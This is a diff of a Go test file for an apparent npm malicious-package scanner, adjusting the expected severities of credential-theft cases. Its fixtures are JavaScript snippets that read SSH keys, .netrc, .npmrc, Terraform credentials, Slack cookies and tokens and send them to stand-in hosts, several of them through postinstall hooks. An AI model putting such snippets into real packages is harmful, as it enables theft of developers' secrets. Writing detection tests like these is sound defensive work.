@@ -84,8 +84,12 @@ require("https").get(url, r => r.pipe(out)); require("child_process").spawn(proc
 		{"token_header_at_install", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"node setup.js"}`), "setup.js": `require("https").request("https://collect.example.invalid/c", { headers: { authorization: process.env.GITHUB_TOKEN } }).end()`}, finding.SeverityCritical},
 		// a binary installer authenticating to GitHub's API with its token
 		{"token_to_its_service", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"node setup.js"}`), "setup.js": `fetch("https://api.github.com/repos/o/r/releases/latest", { headers: { authorization: "token " + process.env.GITHUB_TOKEN } })`}, finding.SeverityLow},
-		// the same request at run time is the library's business
-		{"token_sent_at_runtime", map[string]string{"index.js": `const t = process.env.NPM_TOKEN; fetch("https://collect.example.invalid/c?t=" + encodeURIComponent(t))`}, finding.SeverityLow},
+		// at run time too, an npm token has no business with another host
+		{"token_sent_at_runtime", map[string]string{"index.js": `const t = process.env.NPM_TOKEN; fetch("https://collect.example.invalid/c?t=" + encodeURIComponent(t))`}, finding.SeverityCritical},
+		// a service's own token to that service, and a platform's token to
+		// the platform, are what clients do
+		{"own_token_at_runtime", map[string]string{"index.js": `const t = process.env.ACME_API_TOKEN; fetch("https://api.acme.example.invalid/v1/x", { headers: { authorization: "Bearer " + t } })`}, finding.SeverityLow},
+		{"npm_token_to_registry", map[string]string{"index.js": `fetch("https://registry.npm.local/-/whoami", { headers: { authorization: "Bearer " + process.env.NPM_TOKEN } })`}, finding.SeverityLow},
 		{"object_keys_and_network", map[string]string{"index.js": `const ks = Object.keys(process.env); require("https").get("https://api.example.invalid/")`}, finding.SeverityMedium},
 		{"object_keys_at_install", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"node setup.js"}`), "setup.js": `for (const k in process.env) collect(k, process.env[k])`}, finding.SeverityMedium},
 		{"tokens", map[string]string{"index.js": `const a = process.env.NPM_TOKEN, b = process.env.GITHUB_TOKEN, c = process.env.AWS_SECRET_ACCESS_KEY`}, finding.SeverityMedium},
@@ -122,14 +126,14 @@ func TestFileAccess(t *testing.T) {
 		// the key found by a config module of a package that depends on ssh2
 		{"ssh_client_dependency", map[string]string{"package.json": `{"name":"x","version":"1.0.0","dependencies":{"ssh2":"^1.15.0"}}`,
 			"lib/config.js": `const fs = require("fs"), os = require("os"), path = require("path"); exports.key = () => fs.readFileSync(path.join(os.homedir(), ".ssh", "id_ed25519"))`}, finding.SeverityLow},
-		{"ssh_client_key_and_fetch", map[string]string{"index.js": `require("ssh2"); const key = require("fs").readFileSync(require("os").homedir() + "/.ssh/id_rsa"); fetch("https://c.example.invalid/k", {method: "POST", body: key})`}, finding.SeverityHigh},
+		{"ssh_client_key_and_fetch", map[string]string{"index.js": `require("ssh2"); const key = require("fs").readFileSync(require("os").homedir() + "/.ssh/id_rsa"); fetch("https://c.example.invalid/k", {method: "POST", body: key})`}, finding.SeverityCritical},
 		{"ssh_client_key_at_install", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"node k.js"}`), "k.js": `require("ssh2"); const key = require("fs").readFileSync(require("os").homedir() + "/.ssh/id_rsa")`}, finding.SeverityHigh},
 		// public keys and host names are not secrets
 		{"authorized_keys_read", map[string]string{"cli.js": `const keys = require("fs").readFileSync(require("os").homedir() + "/.ssh/authorized_keys", "utf8")`}, finding.SeverityLow},
 		// other tools' logins and sessions
-		{"terraform_token", map[string]string{"index.js": `const t = require("fs").readFileSync(require("path").join(require("os").homedir(), ".terraform.d", "credentials.tfrc.json"), "utf8"); fetch("https://x.example.invalid/t", {method: "POST", body: t})`}, finding.SeverityHigh},
+		{"terraform_token", map[string]string{"index.js": `const t = require("fs").readFileSync(require("path").join(require("os").homedir(), ".terraform.d", "credentials.tfrc.json"), "utf8"); fetch("https://x.example.invalid/t", {method: "POST", body: t})`}, finding.SeverityCritical},
 		{"telegram_session", map[string]string{"index.js": `const d = require("path").join(process.env.APPDATA, "Telegram Desktop", "tdata"); for (const f of require("fs").readdirSync(d)) upload(f)`}, finding.SeverityHigh},
-		{"slack_cookies", map[string]string{"index.js": `const c = require("fs").readFileSync(require("path").join(require("os").homedir(), ".config", "Slack", "Cookies")); fetch("https://x.example.invalid/c", {method: "POST", body: c})`}, finding.SeverityHigh},
+		{"slack_cookies", map[string]string{"index.js": `const c = require("fs").readFileSync(require("path").join(require("os").homedir(), ".config", "Slack", "Cookies")); fetch("https://x.example.invalid/c", {method: "POST", body: c})`}, finding.SeverityCritical},
 		{"slack_webhook_client", map[string]string{"index.js": `fetch("https://hooks.slack.com/services/T000/B000/XXXX", {method: "POST", body: JSON.stringify({text: "deployed"})})`}, finding.SeverityNone},
 		{"browser_store_list", map[string]string{"index.js": `const t=["Google/Chrome/User Data/Default","BraveSoftware/Brave-Browser/User Data","discord/Local Storage/leveldb"]`}, finding.SeverityHigh},
 		{"discord_token_regex", map[string]string{"index.js": `const re = /[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g; fs.readdirSync(dir).forEach(f => fs.readFileSync(f).toString().match(re))`}, finding.SeverityHigh},
@@ -139,11 +143,11 @@ func TestFileAccess(t *testing.T) {
 		// .netrc read by an HTTP client for the host it talks to; read
 		// and sent to a constant foreign host it is theft
 		{"netrc_http_client", map[string]string{"index.js": `const fs = require("fs"); const rc = fs.readFileSync(require("path").join(require("os").homedir(), ".netrc"), "utf8"); module.exports = (url, o) => fetch(url, { ...o, headers: auth(rc, new URL(url).host) })`}, finding.SeverityMedium},
-		{"netrc_sent", map[string]string{"index.js": `const fs = require("fs"); const rc = fs.readFileSync(require("os").homedir() + "/.netrc", "utf8"); fetch("https://c.example.invalid/n", { method: "POST", body: rc })`}, finding.SeverityHigh},
-		{"npmrc_read_and_sent", map[string]string{"index.js": `const t = require("fs").readFileSync(require("os").homedir() + "/.npmrc", "utf8"); require("https").request({hostname: "x.example.invalid", method: "POST"}).end(t)`}, finding.SeverityHigh},
+		{"netrc_sent", map[string]string{"index.js": `const fs = require("fs"); const rc = fs.readFileSync(require("os").homedir() + "/.netrc", "utf8"); fetch("https://c.example.invalid/n", { method: "POST", body: rc })`}, finding.SeverityCritical},
+		{"npmrc_read_and_sent", map[string]string{"index.js": `const t = require("fs").readFileSync(require("os").homedir() + "/.npmrc", "utf8"); require("https").request({hostname: "x.example.invalid", method: "POST"}).end(t)`}, finding.SeverityCritical},
 		// credentials asked of their own CLI: at install, or by a release tool
 		{"gh_token_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
-			"i.js": `const t = require("child_process").execSync("gh auth token").toString().trim(); fetch("https://c.example.invalid/t", {method: "POST", body: t})`}, finding.SeverityHigh},
+			"i.js": `const t = require("child_process").execSync("gh auth token").toString().trim(); fetch("https://c.example.invalid/t", {method: "POST", body: t})`}, finding.SeverityCritical},
 		{"npm_token_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
 			"i.js": `require("child_process").execSync("npm config get //registry.example.invalid/:_authToken")`}, finding.SeverityHigh},
 		// macOS's keychain, the subcommand passed in an argument array
